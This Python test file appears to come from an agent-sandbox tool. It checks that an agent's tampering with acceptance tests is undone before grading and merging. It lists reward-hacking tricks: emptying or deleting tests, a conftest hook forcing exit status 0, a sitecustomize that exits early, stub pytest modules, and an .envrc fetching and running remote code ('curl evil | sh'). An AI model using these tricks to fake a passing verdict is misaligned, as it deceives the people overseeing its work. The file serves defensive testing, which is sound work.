"""An agent that turns the verdict instead of doing the work: what it changed is neither seen by acceptance nor handed back."""

import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tabsmith.path_patterns import matches_any
from tabsmith.sandbox.policy import SandboxPolicy
from tabsmith.sandbox.runner import detect_level, run_command
from tabsmith.tasks import Task
from tabsmith.tasks.protection import Protection, obeyed
from tabsmith.tasks.task import TaskPermissions
from tabsmith.workspaces import Workspace

ACCEPT = f"{sys.executable} -m pytest -q -p no:cacheprovider && sh check.sh"
RIGGED = "import pytest\n\n\n@pytest.hookimpl\ndef pytest_sessionfinish(session):\n    session.exitstatus = 0\n"


def rewritten(path: str, text: str) -> Callable[[Path], None]:
    def tamper(folder: Path) -> None:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)

    return tamper


def stale_cache(folder: Path) -> None:
    (folder / "tests/__pycache__").mkdir()
    (folder / "tests/__pycache__/test_sum.cpython-311.pyc").write_bytes(b"stale")


def linked_tests(folder: Path) -> None:
    (folder / "elsewhere").mkdir()
    for path in (folder / "tests").iterdir():
        path.unlink()
    (folder / "tests").rmdir()
    (folder / "tests").symlink_to("elsewhere")


WAYS: dict[str, tuple[Callable[[Path], None], str]] = {
    "a test is emptied": (rewritten("tests/test_sum.py", ""), "tests/test_sum.py"),
    "a test is removed": (lambda folder: (folder / "tests/test_sum.py").unlink(), "tests/test_sum.py"),
    "the tests are a link": (linked_tests, "tests"),
    "a conftest.py sets the exit status": (rewritten("conftest.py", RIGGED), "conftest.py"),
    "pytest is told to run nothing": (rewritten("pytest.ini", "[pytest]\naddopts = --collect-only\n"), "pytest.ini"),
    "pyproject.toml tells it": (rewritten("pyproject.toml", "[tool.pytest.ini_options]\n"), "pyproject.toml"),
    "Python is made to start otherwise": (
        rewritten("sitecustomize.py", "import os\nos._exit(0)\n"),
        "sitecustomize.py",
    ),
    "a module stands in for pytest": (rewritten("pytest.py", "raise SystemExit(0)\n"), "pytest.py"),
    "a package stands in for pytest": (rewritten("pytest/__main__.py", "raise SystemExit(0)\n"), "pytest/__main__.py"),
    "the script that accept names": (rewritten("check.sh", "exit 0\n"), "check.sh"),
    "a stale cache": (stale_cache, ""),
    "a hook of git": (rewritten(".git/hooks/post-checkout", "#!/bin/sh\n"), ""),
    "a setting of an editor": (rewritten(".vscode/tasks.json", "{}"), ".vscode/tasks.json"),
    "a start of a shell": (rewritten(".envrc", "curl evil | sh"), ".envrc"),
}


@pytest.fixture
def workspace(tmp_path: Path) -> Workspace:
    origin = tmp_path / "origin"
    (origin / "tests").mkdir(parents=True)
    (origin / "tests/test_sum.py").write_text(
        "def test_sum():\n    from sums import add\n\n    assert add(1, 2) == 3\n"
    )
    (origin / "check.sh").write_text("grep -q def sums.py\n")
    return Workspace.create(origin, tmp_path / "place", "copy")


def a_task(**given: object) -> Task:
    return Task("sums", "Add.", "sums", ACCEPT, **given)  # type: ignore[arg-type]


@pytest.mark.parametrize("way", WAYS)
def test_what_an_agent_tampers_with_is_as_it_was_when_acceptance_runs_and_when_it_is_handed_back(
    workspace: Workspace, tmp_path: Path, way: str
) -> None:
    tamper, named = WAYS[way]
    before = {str(path.relative_to(workspace.origin)): path.read_bytes() for path in workspace.origin.rglob("*.*")}
    tamper(workspace.folder)
    (workspace.folder / "sums.py").write_text("def add(a, b): return a + b\n")
    workspace.mark(1)
    restored = workspace.check_out(1, tmp_path / "out", Protection(a_task()).covers)
    assert (named in restored) if named else not restored
    workspace.merge_back(1)
    for folder in (tmp_path / "out", workspace.origin):
        assert {name: (folder / name).read_bytes() for name in before} == before
        assert (folder / "sums.py").exists()
        assert named in before or not named or not (folder / named).is_file()
        assert not list(folder.rglob("__pycache__"))
        assert not (folder / ".git").exists()


async def test_all_ways_at_once_do_not_turn_the_verdict(workspace: Workspace, tmp_path: Path) -> None:
    for name, (tamper, _) in WAYS.items():
        if name not in ("the tests are a link", "a test is removed"):
            tamper(workspace.folder)
    (workspace.folder / "sums.py").write_text("def add(a, b): return a - b\n")
    workspace.mark(1)
    policy, level = SandboxPolicy(seconds=60.0), detect_level()
    assert (await run_command(ACCEPT, workspace.folder, policy, level)).passed, "the tampering works where it is seen"
    workspace.check_out(1, tmp_path / "out", Protection(a_task()).covers)
    result = await run_command(ACCEPT, tmp_path / "out", policy, level)
    assert "1 failed" in str(result.output)
    assert not result.passed


def test_a_person_says_what_is_protected_and_what_may_be_written() -> None:
    none, own = Protection(a_task(protect=())), Protection(a_task(protect=("default", "golden/**")))
    assert not none.covers("conftest.py", existed=True)
    assert own.covers("golden/a/b.txt", existed=False)
    assert own.covers("conftest.py", existed=False)
    source = Protection(a_task(protect=(), may=TaskPermissions(write=("src/**", "*.md"))))
    written = {path: not source.covers(path, existed=False) for path in ("src/a/b.py", "docs/x.md", "setup.py")}
    assert written == {"src/a/b.py": True, "docs/x.md": True, "setup.py": False}


def test_files_that_programs_obey_are_known_by_their_place() -> None:
    obeying = (".github/workflows/ci.yml", "a/.envrc", "lib/x.pth", ".claude/settings.json", "deep/conftest.py")
    assert all(map(obeyed, obeying))
    assert not any(map(obeyed, ("src/app.py", "github/workflows/ci.yml", "envrc")))


def test_a_pattern_means_what_it_means_in_a_gitignore() -> None:
    assert matches_any("a/b/c.py", ["*.py"])
    assert matches_any("src/x", ["src/"])
    assert not matches_any("src/a/b.py", ["src/*.py"])
    assert matches_any("src/a/b.py", ["src/**/*.py"])
    assert matches_any("src/b.py", ["src/**/*.py"])
    assert not matches_any("lib/src/b.py", ["/src"])
    assert matches_any("a1", ["a[!x]"])
